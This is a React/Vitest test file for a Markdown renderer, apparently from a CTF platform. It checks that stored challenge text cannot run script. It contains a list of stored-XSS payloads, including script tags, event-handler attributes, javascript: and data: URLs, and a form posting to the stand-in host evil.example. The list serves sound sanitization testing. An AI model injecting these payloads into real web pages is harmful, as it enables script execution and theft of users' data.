import { render } from '@testing-library/react';
import { describe, expect, it } from 'vitest';

import { Markdown } from './markdown';

function renderMarkdown(text: string) {
  return render(<Markdown>{text}</Markdown>).container;
}

/** Payloads an author (or a stolen admin account, or a malicious ctfcli pack) could store in a challenge text. */
const STORED_XSS = [
  '<script>window.__pwned = 1</script>',
  '<img src=x onerror="window.__pwned = 1">',
  '<iframe src="javascript:window.__pwned=1"></iframe>',
  '<a href="javascript:window.__pwned=1">raw link</a>',
  '<svg onload="window.__pwned=1"></svg>',
  '<details open ontoggle="window.__pwned=1">x</details>',
  '[md link](javascript:window.__pwned=1)',
  '[md link](JaVaScRiPt:window.__pwned=1)',
  '[md link](vbscript:msgbox)',
  '[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:window.__pwned=1)',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name="flag"></form>',
].join('\n\n');

describe('Markdown', () => {
  it('renders the Markdown an author writes: headings, emphasis, code, lists and tables', () => {
    const container = renderMarkdown(
      '# Title\n\nSome **bold** and `code`.\n\n- one\n- two\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```\nnc host 1337\n```',
    );
    expect(container.querySelector('h1')).toHaveTextContent('Title');
    expect(container.querySelector('strong')).toHaveTextContent('bold');
    expect(container.querySelector('code')).toHaveTextContent('code');
    expect(container.querySelectorAll('li')).toHaveLength(2);
    expect(container.querySelector('table td')).toHaveTextContent('1');
    expect(container.querySelector('pre')).toHaveTextContent('nc host 1337');
  });

  it('renders no element, attribute or URL that could run script from stored text', () => {
    const container = renderMarkdown(STORED_XSS);
    for (const tag of ['script', 'iframe', 'svg', 'details', 'style', 'form', 'input', 'img[onerror]']) {
      expect(container.querySelector(tag), tag).toBeNull();
    }
    const attributes = [...container.querySelectorAll('*')].flatMap((element) => [...element.attributes]);
    expect(attributes.filter((attribute) => attribute.name.startsWith('on'))).toEqual([]);
    for (const element of container.querySelectorAll('a, img')) {
      const url = element.getAttribute('href') ?? element.getAttribute('src') ?? '';
      expect(url, element.outerHTML).not.toMatch(/^\s*(javascript|vbscript|data):/i);
    }
    expect((window as { __pwned?: number }).__pwned).toBeUndefined();
  });

  it('opens links in a new tab without giving the page a handle on Drapeau', () => {
    const container = renderMarkdown('See [the RFC](https://www.rfc-editor.org/rfc/rfc7519) and https://example.org.');
    const links = container.querySelectorAll('a');
    expect(links).toHaveLength(2);
    for (const link of links) {
      expect(link).toHaveAttribute('target', '_blank');
      expect(link.getAttribute('rel')?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    }
    expect(links[0]).toHaveAttribute('href', 'https://www.rfc-editor.org/rfc/rfc7519');
  });

  it('keeps the text of inline HTML out of the page rather than running it', () => {
    const container = renderMarkdown('Before <b onclick="x()">bold</b> after');
    expect(container.querySelector('b')).toBeNull();
    expect(container).toHaveTextContent('Before');
    expect(container).toHaveTextContent('after');
  });
});
